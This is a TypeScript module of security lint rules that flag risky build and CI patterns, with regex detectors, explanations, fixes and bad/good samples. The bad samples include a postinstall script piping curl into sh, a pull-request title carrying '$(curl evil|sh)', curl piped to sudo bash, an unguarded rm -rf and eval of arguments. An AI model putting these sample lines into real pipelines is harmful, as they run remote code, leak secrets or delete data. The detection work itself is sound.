// What runs on machines that build, install and deploy: manifests, GitHub Actions, scripts, Dockerfiles and pipelines.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples hold expressions of shells and of GitHub Actions
import type { InspectedFile } from "../../../ports.ts";
import { type KnownLine, knownLines } from "../known-lines.ts";
import { type LineRule, type Match, rulesOf } from "../rule.ts";
import { holdsCommands, isComment, isWorkflow, linesOf, matchAt, named, realOnes, searchLines } from "./line-rule.ts";

const MANIFEST = /(?:^|\/)package\.json$/;
const INSTALL_SCRIPT = /"(?:pre|post)?install"\s*:\s*"[^\n]{0,300}\b(?:curl|wget|Invoke-WebRequest|iwr)\b/;

/** The lines of a package.json by the section that they stand in; lines whose section is unknown are left out. */
function sections(file: InspectedFile): ReadonlyMap<number, string> {
  const byLine = new Map<number, string>();
  let section: string | null = null;
  let expected = 0;
  for (const { line, text } of knownLines(file)) {
    if (line !== expected) section = null;
    expected = line + 1;
    const opened = /^\s{0,8}"([A-Za-z]{1,40})"\s*:\s*\{\s*$/.exec(text)?.[1];
    if (opened !== undefined) section = opened;
    else if (/^\s*\}/.test(text)) section = null;
    else if (section !== null) byLine.set(line, section);
  }
  return byLine;
}

const ANY_VERSION = /^\s*"(@?[\w./-]{1,100})"\s*:\s*"(?:latest|next|\*|x|>=?\s?[\d.]+)"\s*,?\s*$/;

const PINNED = /#(?:[0-9a-f]{7,40}|semver:|v?\d|[^"'\s]{0,200}\d\.\d)/i;
const PINNED_PYTHON = /@v?[\w./-]*(?:[0-9a-f]{7,40}|\d+\.\d+)/i;

function followsBranch(path: string, text: string): boolean {
  if (MANIFEST.test(path)) {
    const source =
      /^\s*"(?!url"|homepage"|repository"|bugs")[@\w./-]{1,100}"\s*:\s*"((?:git\+(?:https|ssh):\/\/|github:|git@)[^"]{1,200})"/.exec(
        text,
      )?.[1];
    return source !== undefined && !PINNED.test(source);
  }
  if (/(?:^|\/)(?:requirements[^/]*\.txt|constraints[^/]*\.txt)$/.test(path)) {
    const source = /\bgit\+(?:https|ssh):\/\/(?:[^\s/@]{1,80}@)?(\S{1,200})/.exec(text)?.[1];
    return source !== undefined && !PINNED_PYTHON.test(source);
  }
  return /(?:^|\/)Cargo\.toml$/.test(path) && /\bgit\s*=\s*"[^"]{1,200}"/.test(text) && /\bbranch\s*=/.test(text);
}

const WORKFLOW = ".github/workflows/ci.yml";
const TARGET =
  /^\s*(?:-\s*)?["']?(?:pull_request_target|workflow_run)["']?\s*:?\s*$|^["']?on["']?\s*:\s*\[?[^#]{0,200}\b(?:pull_request_target|workflow_run)\b/;
const HEAD_REF =
  /^\s*(?:-\s*)?(?:ref|repository)\s*:[^#]{0,200}(?:github\.event\.pull_request\.head\.|github\.head_ref|github\.event\.workflow_run\.head_|refs\/pull\/)/;
const HEAD_COMMAND =
  /\bgit\s+(?:fetch|checkout|pull)\b[^#]{0,200}(?:pull_request\.head\.|github\.head_ref|refs\/pull\/|pull\/\$)|\bgh\s+pr\s+checkout\b/;

function untrusted(file: InspectedFile): readonly Match[] {
  const lines = knownLines(file).filter(({ text }) => text.length < 1000 && !isComment(text));
  const trigger = lines.find(({ text }) => TARGET.test(text));
  const checkouts = lines.filter(({ text }) => HEAD_REF.test(text) || HEAD_COMMAND.test(text));
  if (trigger === undefined || checkouts.length === 0) return [];
  const added = checkouts.filter((line) => line.added);
  return (added.length > 0 ? added : [trigger]).map(({ line }) => matchAt(line));
}

const WRITTEN_BY_OTHERS =
  /\$\{\{[^}]{0,200}\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|head_commit\.(?:message|author\.(?:name|email))|commits\b[^}]{0,40}\.(?:message|name|email)|pages\b[^}]{0,40}\.page_name|workflow_run\.(?:head_branch|display_title|head_commit\.message))|github\.head_ref)\b[^}]{0,100}\}\}/;
const SCRIPT_KEY = /^\s*(?:-\s*)?(?:run|script)\s*:/;

/** True when a line is a `run:` or `script:` entry, or stands in the block below one. */
function isInScript(lines: readonly KnownLine[], at: KnownLine): boolean {
  if (SCRIPT_KEY.test(at.text)) return true;
  const indent = indentOf(at.text);
  let expected = at.line - 1;
  for (let index = lines.indexOf(at) - 1; index >= 0; index--) {
    const line = lines[index];
    if (line === undefined || line.line !== expected) return false;
    expected--;
    if (line.text.trim() === "" || indentOf(line.text) >= indent) continue;
    return /^\s*(?:-\s*)?(?:run|script)\s*:\s*[|>][+-]?\d?\s*(?:#.*)?$/.test(line.text);
  }
  return false;
}

function indentOf(text: string): number {
  return text.length - text.trimStart().length;
}

const ON_BRANCH =
  /^\s*(?:-\s*)?uses\s*:\s*["']?([\w.-]+)\/([\w./-]+)@(main|master|develop|dev|trunk|HEAD)["']?\s*(?:#(?!.*exclude).*)?$/;
/** A comment `ratchet:exclude` says that somebody decided it; GitHub's own, and actions whose documentation asks for a branch. */
const TRUSTED_BRANCHES = new Set(["actions", "github", "dtolnay"]);

const PRINTS_SECRET =
  /^\s*(?:-\s*)?(?:run\s*:\s*)?(?:echo|printf|print|Write-(?:Host|Output))\b[^|>#]{0,300}\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)[\w.]{1,100}\s*\}\}[^|>]{0,300}$/;
const ALL_SECRETS = /\btoJSON\(\s*secrets\s*\)/i;

const INTO_SHELL =
  /\|\s{0,9}(?:sudo\s{1,9}(?:-\w{1,9}\s{1,9}){0,3})?(?:env\s{1,9}\S{1,60}\s{1,9})?(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh(?![\w.-])/g;
const SHELL_OF_DOWNLOAD = /\b(?:ba|z)?sh\s{1,9}(?:-c\s{1,9}["']?\$\(|<\()\s{0,9}(?:curl|wget)\b/;

/** True for `curl … | sh` and `sh -c "$(curl …)"`; the pipe is looked for first, so that a line costs its length. */
function runsDownload(text: string): boolean {
  if (!/\b(?:curl|wget)\b/.test(text)) return false;
  if (SHELL_OF_DOWNLOAD.test(text)) return true;
  for (const pipe of text.slice(0, 2000).matchAll(INTO_SHELL)) {
    const before = text.slice(0, pipe.index);
    const command = before.slice(Math.max(before.lastIndexOf(";"), before.lastIndexOf("&&")) + 1);
    if (/\b(?:curl|wget)\b[^#]*$/.test(command)) return true;
  }
  return false;
}

/** Installers that their publishers document in this form: a finding on each would be noise. */
const DOCUMENTED_INSTALLER =
  /sh\.rustup\.rs|nvm-sh|get\.docker\.com|deb\.nodesource\.com|Homebrew\/install|install\.python-poetry\.org|astral\.sh|bun\.sh|deno\.land|fnm\.vercel\.app|get\.pnpm\.io|raw\.githubusercontent\.com\/(?:helm|nvm-sh|Homebrew|anchore|aquasecurity|golangci|k3d-io|rancher)\/|get\.helm\.sh|k3s\.io|dl\.k8s|sdkman\.io|get-helm|foundry\.paradigm|nixos\.org|codecov\.io|cli\.github\.com|starship\.rs|volta\.sh|pyenv\.run|get\.sdkman/i;

const REMOVE_ALL =
  /\brm\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)(?:\s+-{1,2}[\w-]+)*\s+["']?\$\{?([A-Za-z_]\w{0,60})\}?["']?\/["']?(?:\*|\{|["']?\s*$|["']?\s*[;&|])/;

/** True when an unset variable stops the script, or a line above gives this one a value. */
function isKnownSet(file: InspectedFile, variable: string, before: number): boolean {
  const assigned = new RegExp(
    `(?:^|[\\s;&])(?:local\\s+|export\\s+|readonly\\s+)?${variable}\\s*[:?]?=\\s*["']?[^\\s"';]|\\$\\{${variable}:[?=-]|\\bfor\\s+${variable}\\s+in\\b|-[nzd]\\s+["']?\\$\\{?${variable}\\b`,
  );
  return knownLines(file).some(({ line, text }) => {
    if (line > before || text.length > 1000) return false;
    return /^\s*set\s+-[a-zA-Z]*u|^\s*set\s+-o\s+nounset|^#!.*\s-[a-z]*u/.test(text) || assigned.test(text);
  });
}

const WORLD_WRITABLE =
  /\bchmod\s+(?:-[a-zA-Z]+\s+|--recursive\s+)*(?:0?[0-7]?777|0?[0-7]?666|a\+rwx|o\+[rx]*w[rx]*|ugo\+rwx|a\+w)\b/;

export const BUILD_RULES = rulesOf<LineRule>("security", [
  {
    id: "install-script-downloads",
    title: "Install script downloads and runs code",
    severity: "major",
    confidence: 0.7,
    why: "It runs on every machine that installs the package, with that person's rights, and whatever the server sends.",
    fix: "Ship the file in the package, or download it in a step that people start and that checks a checksum.",
    bad: { path: "package.json", code: '    "postinstall": "curl -s https://get.acme.io/agent | sh",' },
    good: { path: "package.json", code: '    "postinstall": "patch-package && husky",' },
    check: linesOf(named(MANIFEST), (text) => INSTALL_SCRIPT.test(text)),
  },
  {
    id: "dependency-any-version",
    title: "Dependency takes any version",
    severity: "medium",
    category: "reliability",
    confidence: 0.55,
    why: "The next install may bring a version with breaking changes, or one that somebody published with a stolen account.",
    fix: "Name a range such as `^1.4.0`.",
    bad: { path: "package.json", code: '{\n  "dependencies": {\n    "left-pad": "latest"\n  }\n}' },
    good: {
      path: "package.json",
      code: '{\n  "dependencies": {\n    "left-pad": "^1.3.0",\n    "@acme/core": "workspace:*"\n  }\n}',
    },
    check: (file) => {
      if (!MANIFEST.test(file.facts.path)) return [];
      const places = sections(file);
      return searchLines(file, (text, { line }) => {
        const [, name] = ANY_VERSION.exec(text) ?? [];
        const section = places.get(line);
        // A scoped "*" is how npm workspaces name a sibling.
        if (name === undefined || (name.startsWith("@") && /"\*"/.test(text))) return null;
        return section === "dependencies" ? { detail: name } : null;
      });
    },
  },
  {
    id: "dependency-follows-branch",
    title: "Dependency follows a branch",
    severity: "medium",
    category: "reliability",
    confidence: 0.65,
    why: "Two installs on two days bring different code, and whoever can push to that branch decides which.",
    fix: "Pin it to a tag or a commit.",
    bad: { path: "package.json", code: '    "parser": "git+https://github.com/acme/parser.git",' },
    good: {
      path: "package.json",
      code: '    "parser": "git+https://github.com/acme/parser.git#v1.2.0",\n    "url": "git+https://github.com/acme/app.git"',
    },
    check: (file) => searchLines(file, (text) => !isComment(text) && followsBranch(file.facts.path, text)),
  },
  {
    id: "workflow-runs-untrusted-code",
    title: "Privileged workflow checks out the code of a pull request",
    severity: "critical",
    confidence: 0.75,
    why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
    fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
    bad: {
      path: WORKFLOW,
      code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
    },
    good: {
      path: WORKFLOW,
      code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
    },
    check: (file) => (isWorkflow(file) ? untrusted(file) : []),
  },
  {
    id: "workflow-script-injection",
    title: "Workflow inserts untrusted text into a script",
    severity: "critical",
    confidence: 0.85,
    why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
    fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
    bad: { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
    good: {
      path: WORKFLOW,
      code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
    },
    check: (file) => {
      if (!isWorkflow(file)) return [];
      const lines = knownLines(file);
      return searchLines(file, (text, at) => WRITTEN_BY_OTHERS.test(text) && isInScript(lines, at));
    },
  },
  {
    id: "workflow-action-on-branch",
    title: "Action of a third party follows a branch",
    severity: "medium",
    confidence: 0.6,
    why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
    fix: "Pin the action to a full commit SHA, with the version in a comment.",
    bad: { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
    good: {
      path: WORKFLOW,
      code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0",
    },
    check: linesOf(isWorkflow, (text) => {
      const [, owner, name, branch] = ON_BRANCH.exec(text) ?? [];
      return owner === undefined || TRUSTED_BRANCHES.has(owner) ? null : { detail: `${owner}/${name}@${branch}` };
    }),
  },
  {
    id: "workflow-write-all",
    title: "Workflow gets every permission",
    severity: "medium",
    confidence: 0.8,
    why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
    fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
    fixes: [{ from: /write-all/, to: "read-all" }],
    bad: { path: WORKFLOW, code: "permissions: write-all" },
    good: { path: WORKFLOW, code: "permissions: read-all" },
    check: linesOf(isWorkflow, /^\s*permissions\s*:\s*["']?write-all\b/),
  },
  {
    id: "workflow-prints-secret",
    title: "Workflow hands out secrets",
    severity: "major",
    confidence: 0.65,
    why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
    fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
    bad: { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
    good: { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
    check: linesOf(isWorkflow, (text) => !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text))),
  },
  {
    id: "workflow-unsecure-commands",
    title: "Workflow allows commands from its output",
    severity: "major",
    confidence: 0.9,
    why: "`set-env` and `add-path` let anything that prints to the log change the environment of later steps (CVE-2020-15228).",
    fix: "Write to `$GITHUB_ENV` and `$GITHUB_PATH` instead, and remove the setting.",
    bad: { path: WORKFLOW, code: "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true" },
    good: { path: WORKFLOW, code: "      ACTIONS_ALLOW_UNSECURE_COMMANDS: false" },
    check: linesOf(isWorkflow, /^\s*(?:export\s+)?ACTIONS_ALLOW_UNSECURE_COMMANDS\s*[:=]\s*["']?true\b/i),
  },
  {
    id: "download-piped-to-shell",
    title: "Download runs without a check",
    severity: "medium",
    confidence: 0.5,
    why: "Whatever the server sends is run, also when it was exchanged or cut off in the middle.",
    fix: "Download to a file, compare its checksum, then run it.",
    bad: { path: "scripts/setup.sh", code: "curl -sSL https://get.acme.io/install | sudo bash -s -- --yes" },
    good: {
      path: "scripts/setup.sh",
      code: "curl -sSL https://get.acme.io/install -o install.sh\nsha256sum -c install.sha256",
    },
    check: linesOf(
      realOnes(holdsCommands),
      (text) => !isComment(text) && runsDownload(text) && !DOCUMENTED_INSTALLER.test(text),
    ),
  },
  {
    id: "rm-of-empty-variable",
    title: "Deletion from the root when the variable is empty",
    severity: "major",
    category: "reliability",
    confidence: 0.6,
    why: "If the variable is unset or empty, the command becomes `rm -rf /…`.",
    fix: "Write `${NAME:?}` so that the script stops instead.",
    bad: { path: "scripts/clean.sh", code: 'rm -rf "$BUILD_DIR"/*' },
    good: { path: "scripts/clean.sh", code: 'rm -rf "${BUILD_DIR:?}"/*' },
    check: (file) => {
      if (!holdsCommands(file)) return [];
      return searchLines(file, (text, at) => {
        const variable = isComment(text) ? undefined : REMOVE_ALL.exec(text)?.[1];
        return variable !== undefined && !isKnownSet(file, variable, at.line);
      });
    },
  },
  {
    id: "shell-eval-of-variable",
    title: "Shell evaluates a variable as code",
    severity: "major",
    confidence: 0.45,
    why: "Whatever reaches the variable runs as a command: a file name with `;` in it is enough.",
    fix: 'Keep the command in an array and call `"${command[@]}"`.',
    bad: { path: "scripts/run.sh", code: 'eval "$1"' },
    good: { path: "scripts/run.sh", code: 'eval "$(ssh-agent -s)"' },
    check: linesOf(
      (file) => file.facts.language === "shell",
      /(?:^|[;&|]|\bthen|\bdo)\s*eval\s+["']?\$(?:[1@*]|\{?(?:user|input|arg|cmd|command|query|line|REPLY|INPUT|CMD|COMMAND)\w{0,40}\b)(?!=)/,
    ),
  },
  {
    id: "file-writable-by-everybody",
    title: "Files become writable for everybody",
    severity: "medium",
    confidence: 0.6,
    why: "Any user or process of the machine can then exchange the files, and with them what runs later.",
    fix: "Give the owner or group what they need, such as `chmod 755` or `chown`.",
    fixes: [
      { from: /\b(0?)777\b/, to: "$1755" },
      { from: /\b(0?)666\b/, to: "$1644" },
    ],
    bad: { path: "Dockerfile", code: "RUN chmod -R 777 /app" },
    good: { path: "Dockerfile", code: "RUN chmod 755 /app/entrypoint.sh" },
    check: linesOf(
      realOnes(holdsCommands),
      (text) => !isComment(text) && WORLD_WRITABLE.test(text) && !/\bchmod\s+(?:-\w+\s+)?0?1777\b/.test(text),
    ),
  },
]);
